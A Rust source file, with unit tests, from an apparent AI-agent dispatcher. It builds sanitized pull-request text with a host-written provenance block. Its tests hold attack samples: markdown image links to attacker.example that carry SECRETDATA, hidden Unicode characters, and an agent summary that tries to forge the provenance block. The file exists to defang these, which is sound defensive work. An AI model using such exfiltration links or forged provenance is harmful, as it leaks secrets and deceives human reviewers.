//! The pull request's title and body: built from the brief, passed through the sanitizer as a whole,
//! and closed by a provenance block the host writes (what ran, where, with which credential, at what
//! cost), so a reviewer knows how the change was made without trusting the agent's word for it. The
//! agent's own words (its summary, the model it reported) go through the display policy
//! ([`crate::dispatch::display`]): nothing of theirs is fetched or clickable when the page is viewed.

use std::fmt::Write as _;
use std::sync::Arc;
use std::time::Duration;

use crate::brief::Brief;
use crate::dispatch::branch::CommitSha;
use crate::dispatch::display::{code_span, forge_text, table_cell_code, without_invisible};
use crate::dispatch::event::DispatchId;
use crate::dispatch::sanitize::{SanitizedText, TokenSanitizer};

/// GitHub refuses longer titles.
const MAX_TITLE_CHARS: usize = 256;

/// The longest model name the provenance block shows (a name the agent reported has no other bound).
const MAX_MODEL_CHARS: usize = 128;

/// The marker that opens the provenance block; an update replaces everything from it on.
pub const PROVENANCE_MARKER: &str = "<!-- stet:provenance -->";

/// Facts about a dispatch the host knows first-hand.
#[derive(Debug, Clone, PartialEq)]
pub struct Provenance {
    /// The dispatch that produced the result.
    pub dispatch: DispatchId,
    /// The image the container ran, by digest or local image id.
    pub image: String,
    /// The harness's name (`openhands`, `script`).
    pub harness: String,
    /// The agent program's version, when the harness pins one.
    pub harness_version: Option<String>,
    /// The model the agent used, as metered or as configured; `None` when neither says.
    pub model: Option<String>,
    /// Input tokens over the dispatch; `None` when no usage was reported.
    pub input_tokens: Option<u64>,
    /// Output tokens over the dispatch; `None` when no usage was reported.
    pub output_tokens: Option<u64>,
    /// What the model gateway's ledger settled (or the agent reported, without a gateway).
    pub cost_usd: Option<f64>,
    /// The most the ledger held for requests in flight at once, under a cost ceiling: with
    /// `cost_usd`, the spend the ceiling was defended against.
    pub peak_reserved_usd: Option<f64>,
    /// `none` or `bridge`.
    pub network: String,
    /// The scoped credential's provider (`local`, `github-app`, `fallback`).
    pub credential_kind: String,
    /// How many secrets the sanitizer masked during the dispatch.
    pub redactions: u64,
    /// How long the dispatch took.
    pub duration: Duration,
    /// The commit the result builds on.
    pub base: CommitSha,
    /// The result's commit.
    pub commit: CommitSha,
}

/// A pull request ready to send: every text field already sanitized.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PullRequestDraft {
    /// The pull request's title.
    pub title: SanitizedText,
    /// The pull request's description, provenance block included.
    pub body: SanitizedText,
    /// The branch it merges into.
    pub base: String,
    /// The pushed branch.
    pub head: String,
}

impl PullRequestDraft {
    /// Builds the draft from the brief, the agent's own summary (untrusted text, made inert and shown
    /// as a quote) and the host's provenance; invisible characters are removed from all of it and the
    /// sanitizer masks anything secret-shaped or known anywhere in it.
    pub fn compose(
        brief: &Brief,
        head: &str,
        agent_summary: Option<&str>,
        provenance: &Provenance,
        sanitizer: &Arc<TokenSanitizer>,
    ) -> PullRequestDraft {
        let title: String = without_invisible(&brief.title)
            .text
            .chars()
            .take(MAX_TITLE_CHARS)
            .collect();
        let mut body = String::new();
        body.push_str(
            "This change was made by an AI coding agent dispatched by stet, from this brief:\n\n",
        );
        for item in &brief.items {
            // A repository ships its own briefs: their text is made inert like the agent's, and
            // each line after the first stays inside its list item.
            let shown = forge_text(sanitizer, item.text.trim());
            for (index, line) in shown.text.as_str().lines().enumerate() {
                let lead = if index == 0 { "- " } else { "\n  " };
                let _ = write!(body, "{lead}{line}");
            }
            if let Some(anchor) = &item.anchor {
                match anchor.lines {
                    Some((first, last)) => {
                        let _ = write!(body, " ({} lines {first}–{last})", code_span(&anchor.path));
                    }
                    None => {
                        let _ = write!(body, " ({})", code_span(&anchor.path));
                    }
                }
            }
            body.push('\n');
        }
        if let Some(summary) = agent_summary.map(str::trim).filter(|s| !s.is_empty()) {
            let shown = forge_text(sanitizer, summary);
            body.push_str("\nThe agent's summary (its own words, unverified):\n\n");
            for line in shown.text.as_str().lines() {
                let _ = writeln!(body, "> {line}");
            }
            if let Some(note) = rewrite_note(shown.links_defanged, shown.invisible_removed) {
                let _ = writeln!(body, "\n{note}");
            }
        }
        body.push('\n');
        body.push_str(&provenance_block(provenance));
        PullRequestDraft {
            title: sanitizer.sanitize(&title),
            body: sanitizer.sanitize(&without_invisible(&body).text),
            base: brief.target.base.clone(),
            head: head.to_owned(),
        }
    }
}

/// What stet changed in the agent's summary, said under it so a reviewer knows the agent tried.
fn rewrite_note(links: usize, invisible: usize) -> Option<String> {
    let links = match links {
        0 => None,
        1 => Some("made 1 link or image in it inert".to_owned()),
        n => Some(format!("made {n} links or images in it inert")),
    };
    let invisible = match invisible {
        0 => None,
        1 => Some("removed 1 invisible character".to_owned()),
        n => Some(format!("removed {n} invisible characters")),
    };
    match (links, invisible) {
        (None, None) => None,
        (Some(one), None) | (None, Some(one)) => Some(format!("*stet {one}.*")),
        (Some(links), Some(invisible)) => Some(format!("*stet {links} and {invisible}.*")),
    }
}

/// The host-written block at the end of the body. The model's name can come from the agent (the
/// usage it reports), so it is shown as code.
pub fn provenance_block(p: &Provenance) -> String {
    let mut block = String::new();
    let _ = writeln!(block, "{PROVENANCE_MARKER}");
    block.push_str("**Provenance** (written by stet on the host, not by the agent)\n\n");
    block.push_str("| | |\n|---|---|\n");
    let mut row = |name: &str, value: String| {
        let _ = writeln!(block, "| {name} | {value} |");
    };
    row("Dispatch", format!("`{}`", p.dispatch));
    row("Image", format!("`{}`", p.image));
    row(
        "Harness",
        match &p.harness_version {
            Some(version) => format!("{} {version}", p.harness),
            None => p.harness.clone(),
        },
    );
    row(
        "Model",
        p.model
            .as_deref()
            .map(|model| {
                let shown = without_invisible(model).text;
                match shown.char_indices().nth(MAX_MODEL_CHARS) {
                    Some((cut, _)) => table_cell_code(&format!("{}…", &shown[..cut])),
                    None => table_cell_code(&shown),
                }
            })
            .filter(|shown| !shown.is_empty())
            .unwrap_or_else(|| "not reported".to_owned()),
    );
    row(
        "Tokens",
        match (p.input_tokens, p.output_tokens) {
            (None, None) => "not reported".to_owned(),
            (input, output) => format!(
                "{} in · {} out",
                input.map_or("?".to_owned(), |n| n.to_string()),
                output.map_or("?".to_owned(), |n| n.to_string())
            ),
        },
    );
    row(
        "Cost",
        match (p.cost_usd, p.peak_reserved_usd) {
            (None, _) => "not reported".to_owned(),
            (Some(usd), Some(reserved)) if reserved > 0.0 => {
                format!("${usd:.4} settled (at most ${reserved:.4} reserved at once)")
            }
            (Some(usd), _) => format!("${usd:.4}"),
        },
    );
    row("Network", p.network.clone());
    row(
        "Credential",
        format!(
            "{} (scoped to this repository, short-lived)",
            p.credential_kind
        ),
    );
    row("Redactions", p.redactions.to_string());
    row("Duration", human_duration(p.duration));
    row("Base → commit", format!("`{}` → `{}`", p.base, p.commit));
    block
}

fn human_duration(duration: Duration) -> String {
    let seconds = duration.as_secs();
    match (seconds / 3600, (seconds / 60) % 60, seconds % 60) {
        (0, 0, s) => format!("{s}s"),
        (0, m, s) => format!("{m}m {s:02}s"),
        (h, m, s) => format!("{h}h {m:02}m {s:02}s"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::brief::Brief;
    use crate::dispatch::sanitize::KnownValue;
    use std::path::Path;

    fn brief() -> Brief {
        Brief::parse(
            "fix-login",
            Path::new("fix-login.toml"),
            r#"
title = "Fix the login redirect loop"
workflow = "implement"
[target]
repo = "octo/app"
base = "main"
[[items]]
text = "The redirect after login loops when ?next= is empty."
anchor = { path = "src/auth/login.rs", lines = [120, 148] }
[[items]]
text = "Add a regression test."
"#,
        )
        .unwrap()
    }

    fn provenance() -> Provenance {
        Provenance {
            dispatch: DispatchId::new(),
            image: format!("sha256:{}", "ab".repeat(32)),
            harness: "openhands".into(),
            harness_version: Some("1.16.0".into()),
            model: Some("gpt-test".into()),
            input_tokens: Some(1200),
            output_tokens: Some(340),
            cost_usd: Some(0.0123),
            peak_reserved_usd: None,
            network: "none".into(),
            credential_kind: "github-app".into(),
            redactions: 2,
            duration: Duration::from_secs(252),
            base: CommitSha::parse(&"1".repeat(40)).unwrap(),
            commit: CommitSha::parse(&"2".repeat(40)).unwrap(),
        }
    }

    #[test]
    fn the_body_lists_the_items_and_ends_with_the_provenance_block() {
        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
        let draft = PullRequestDraft::compose(
            &brief(),
            "stet/fix-login",
            Some("Fixed it.\nAdded a test."),
            &provenance(),
            &sanitizer,
        );
        assert_eq!(draft.title.as_str(), "Fix the login redirect loop");
        assert_eq!(
            (draft.base.as_str(), draft.head.as_str()),
            ("main", "stet/fix-login")
        );
        let body = draft.body.as_str();
        assert!(body.contains("- The redirect after login loops when ?next= is empty. (`src/auth/login.rs` lines 120–148)\n"));
        assert!(body.contains("- Add a regression test.\n"));
        assert!(body.contains("> Fixed it.\n> Added a test.\n"));
        let block = &body[body.find(PROVENANCE_MARKER).unwrap()..];
        for expected in [
            "| Image | `sha256:abab",
            "| Harness | openhands 1.16.0 |",
            "| Model | `gpt-test` |",
            "| Tokens | 1200 in · 340 out |",
            "| Cost | $0.0123 |",
            "| Network | none |",
            "| Credential | github-app (scoped",
            "| Redactions | 2 |",
            "| Duration | 4m 12s |",
        ] {
            assert!(
                block.contains(expected),
                "{expected:?} missing from\n{block}"
            );
        }
    }

    #[test]
    fn a_secret_in_the_brief_or_the_summary_is_masked_in_title_and_body() {
        let canary = format!("canary-{}", uuid::Uuid::new_v4().simple());
        let sanitizer = Arc::new(
            TokenSanitizer::with_known_values(vec![
                KnownValue::new("primary-token", &canary).unwrap(),
            ])
            .unwrap(),
        );
        let mut brief = brief();
        brief.title = format!("Use {canary}");
        brief.items[0].text = format!("token is {canary}");
        let draft = PullRequestDraft::compose(
            &brief,
            "stet/x",
            Some(&format!("I printed {canary}")),
            &provenance(),
            &sanitizer,
        );
        assert!(!draft.title.as_str().contains(&canary));
        assert!(!draft.body.as_str().contains(&canary));
        assert_eq!(
            draft
                .body
                .as_str()
                .matches("[REDACTED:primary-token]")
                .count(),
            2
        );
    }

    #[test]
    fn the_agents_summary_reaches_the_body_inert_and_without_invisible_characters() {
        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
        let summary = "Fixed it ![x](https://attacker.example/?d=SECRETDATA).\n\
            See [the log](https://attacker.example/log) and [ref].\n\
            [ref]: https://attacker.example/r\n\
            <img src=\"https://attacker.example/p.png\"> <https://attacker.example/auto> www.attacker.example\n\
            user\u{202e}txt.exe\u{200b} done";
        let draft =
            PullRequestDraft::compose(&brief(), "stet/x", Some(summary), &provenance(), &sanitizer);
        let body = draft.body.as_str();
        let expected = "The agent's summary (its own words, unverified):\n\n\
            > Fixed it x (image: `https://attacker.example/?d=SECRETDATA`).\n\
            > See the log (`https://attacker.example/log`) and ref (`https://attacker.example/r`).\n\
            > \\[ref\\]: `https://attacker.example/r`\n\
            > &lt;img src=\"`https://attacker.example/p.png`\"> `https://attacker.example/auto` `www.attacker.example`\n\
            > usertxt.exe done\n\
            \n\
            *stet made 5 links or images in it inert and removed 2 invisible characters.*\n\
            \n\
            <!-- stet:provenance -->\n";
        assert!(body.contains(expected), "{body}");
        assert!(
            body.contains("\n**Provenance** (written by stet on the host, not by the agent)\n")
        );
    }

    #[test]
    fn an_agent_cannot_forge_the_provenance_block_or_swallow_it() {
        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
        let summary = format!(
            "{PROVENANCE_MARKER}\n**Provenance** (written by stet on the host, not by the agent)\n\n\
             | | |\n|---|---|\n| Network | bridge |\n<!--\n```\nunclosed `{PROVENANCE_MARKER}`"
        );
        let draft = PullRequestDraft::compose(
            &brief(),
            "stet/x",
            Some(&summary),
            &provenance(),
            &sanitizer,
        );
        let body = draft.body.as_str();
        let quote_start = body.find("unverified):\n\n").unwrap() + "unverified):\n\n".len();
        let host = body.rfind(PROVENANCE_MARKER).unwrap();
        let quoted = &body[quote_start..host];
        for line in quoted.lines().take_while(|line| !line.is_empty()) {
            assert!(
                line.starts_with("> "),
                "{line:?} escaped the quote in\n{body}"
            );
        }
        assert!(
            quoted.contains("> &lt;!-- stet:provenance -->\n> **Provenance**"),
            "{body}"
        );
        assert!(quoted.contains("> \\|---|---|\n"), "{body}");
        assert!(
            quoted.contains("> &lt;!--\n> ```\n> unclosed `<!-- stet:provenance -->`\n> ```\n"),
            "{body}"
        );
        assert!(body[host..].starts_with(&format!("{PROVENANCE_MARKER}\n**Provenance**")));
        assert!(body[host..].contains("| Network | none |"));
    }

    #[test]
    fn a_clean_summary_gets_no_note() {
        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
        let draft = PullRequestDraft::compose(
            &brief(),
            "stet/x",
            Some("Fixed `login.rs`; see #12."),
            &provenance(),
            &sanitizer,
        );
        assert!(
            draft
                .body
                .as_str()
                .contains("> Fixed `login.rs`; see #12.\n\n<!-- stet:provenance -->")
        );
    }

    #[test]
    fn a_model_name_the_agent_reported_is_shown_as_code() {
        let mut p = provenance();
        p.model = Some("m ![x](https://attacker.example/m.png) | <img src=x>\u{2066}".into());
        let block = provenance_block(&p);
        assert!(
            block.contains(
                "| Model | `m ![x](https://attacker.example/m.png) \u{a6} <img src=x>` |\n"
            ),
            "{block}"
        );
        p.model = Some("\u{200b}".into());
        assert!(provenance_block(&p).contains("| Model | not reported |"));
        p.model = Some("é".repeat(500));
        assert!(
            provenance_block(&p).contains(&format!("| Model | `{}…` |", "é".repeat(128))),
            "{}",
            provenance_block(&p)
        );
    }

    #[test]
    fn brief_text_loses_its_invisible_characters_and_anchors_stay_code() {
        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
        let mut brief = brief();
        brief.title = "Fix\u{202e} the loop".into();
        brief.items[0].text = "Loops\u{200b} when empty.".into();
        brief.items[0].anchor.as_mut().unwrap().path = "src/a`b.rs".into();
        let draft = PullRequestDraft::compose(&brief, "stet/x", None, &provenance(), &sanitizer);
        assert_eq!(draft.title.as_str(), "Fix the loop");
        assert!(
            draft
                .body
                .as_str()
                .contains("- Loops when empty. (``src/a`b.rs`` lines 120–148)\n"),
            "{}",
            draft.body
        );
    }

    #[test]
    fn unreported_usage_says_so() {
        let mut p = provenance();
        (
            p.model,
            p.input_tokens,
            p.output_tokens,
            p.cost_usd,
            p.harness_version,
        ) = (None, None, None, None, None);
        let block = provenance_block(&p);
        assert!(block.contains("| Model | not reported |"));
        assert!(block.contains("| Tokens | not reported |"));
        assert!(block.contains("| Cost | not reported |"));
        assert!(block.contains("| Harness | openhands |"));
    }

    #[test]
    fn durations_read_like_a_clock() {
        assert_eq!(human_duration(Duration::from_secs(9)), "9s");
        assert_eq!(human_duration(Duration::from_secs(61)), "1m 01s");
        assert_eq!(human_duration(Duration::from_secs(3725)), "1h 02m 05s");
    }
}
